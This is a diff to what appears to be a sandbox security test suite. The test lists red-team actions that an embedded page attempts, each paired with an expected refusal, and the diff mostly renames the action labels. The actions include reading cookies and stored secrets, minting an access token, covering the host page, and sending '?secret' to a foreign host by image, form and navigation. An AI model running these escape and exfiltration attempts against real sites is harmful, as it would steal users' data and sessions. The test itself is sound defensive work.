@@ -25,25 +25,29 @@ const frame = (inner: string) => `await new Promise((resolve, reject) => {
 /** In order; the last ones may leave the page. */
 export const actions: Action[] = [
   {
-    name: 'read the page around it',
+    name: 'read the surrounding page',
     code: `const { body } = window.parent === window ? document : window.parent.document;
       if (!body.querySelector('nav')) throw new Error('no shell'); return body.querySelector('nav').innerText;`,
     told: /parent/,
   },
   { name: 'read cookies', code: 'return document.cookie + " read";', told: /cookie/ },
   {
-    name: 'read what the shell keeps in the browser',
+    name: 'read the data of the shell in localStorage',
     code: `const found = Object.keys(localStorage).filter((key) => /^(redteam-secret|staffroom\\.)/.test(key));
       if (localStorage.getItem('redteam-secret') === null) throw new Error('not there'); return found.join();`,
     told: null,
   },
   {
-    name: 'open a database of the browser',
+    name: 'open an IndexedDB database',
     code: `await new Promise((resolve, reject) => { const open = indexedDB.open('x');
       open.onsuccess = resolve; open.onerror = () => reject(open.error); }); return 'opened';`,
     told: /indexedDB/,
   },
-  { name: 'open the cache of the browser', code: "await caches.open('x'); return 'opened';", told: /caches/ },
+  {
+    name: 'open the cache storage of the browser',
+    code: "await caches.open('x'); return 'opened';",
+    told: /caches/,
+  },
   {
     name: 'install a service worker',
     code: `const worker = await navigator.serviceWorker.register('/remotes/open-red/1.0.0/worker.js');
@@ -65,7 +69,7 @@ export const actions: Action[] = [
     told: /PATCH \/api\/profile/,
   },
   {
-    name: 'make a token of access',
+    name: 'create an access token',
     code: call(
       '/api/access-tokens',
       `{ method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"name":"red","days":null}' }`,
@@ -96,7 +100,7 @@ export const actions: Action[] = [
     told: /neighbour:whisper/,
   },
   {
-    name: 'open a socket of its own',
+    name: 'open a separate WebSocket',
     code:
       frame(`const socket = new WebSocket(location.href.replace(/^http/, 'ws').replace(/\\/agent.*/, '/ws'));
       socket.onopen = resolve; socket.onerror = () => reject(new Error('refused'));`) + "return 'opened';",
@@ -108,14 +112,14 @@ export const actions: Action[] = [
     told: /GET http:\/\/127\.0\.0\.1:9/,
   },
   {
-    name: 'load a picture from a foreign host',
+    name: 'load an image from a foreign host',
     code:
       frame(`const image = new Image(); image.onload = resolve; image.onerror = () => reject(new Error('refused'));
       image.src = '${foreign}/pixel.png?secret';`) + "return 'loaded';",
     told: /img-src http:\/\/127\.0\.0\.1:9/,
   },
   {
-    name: 'draw over the shell',
+    name: 'cover the shell',
     code: `const cover = document.createElement('div'); cover.style.cssText = 'position:fixed;inset:0;z-index:9999999;background:red';
       document.body.append(cover); await new Promise((resolve) => setTimeout(resolve, 200)); return 'drawn';`,
     told: null,
@@ -126,12 +130,12 @@ export const actions: Action[] = [
     told: /window\.open/,
   },
   {
-    name: 'take the whole window elsewhere',
+    name: 'navigate the whole window to another site',
     code: `window.top.location.href = '${foreign}/top?secret'; await new Promise((resolve) => setTimeout(resolve, ${refusalTimeoutMs})); return 'left';`,
     told: /navigate/,
   },
   {
-    name: 'send a form to a foreign host',
+    name: 'submit a form to a foreign host',
     code: `const form = document.createElement('form'); form.action = '${foreign}/form?secret'; form.method = 'post'; document.body.append(form);
       await new Promise((resolve, reject) => {
         document.addEventListener('securitypolicyviolation', () => reject(new Error('refused')), { once: true });
@@ -139,7 +143,7 @@ export const actions: Action[] = [
     told: /(?:form-action|frame-src) http:\/\/127\.0\.0\.1:9/,
   },
   {
-    name: 'go elsewhere itself, with what it knows in the address',
+    name: 'navigate itself to another site, with data in the URL',
     code: `location.href = '${foreign}/left?secret'; await new Promise((resolve) => setTimeout(resolve, ${refusalTimeoutMs})); return 'left';`,
     told: /frame-src http:\/\/127\.0\.0\.1:9/,
   },
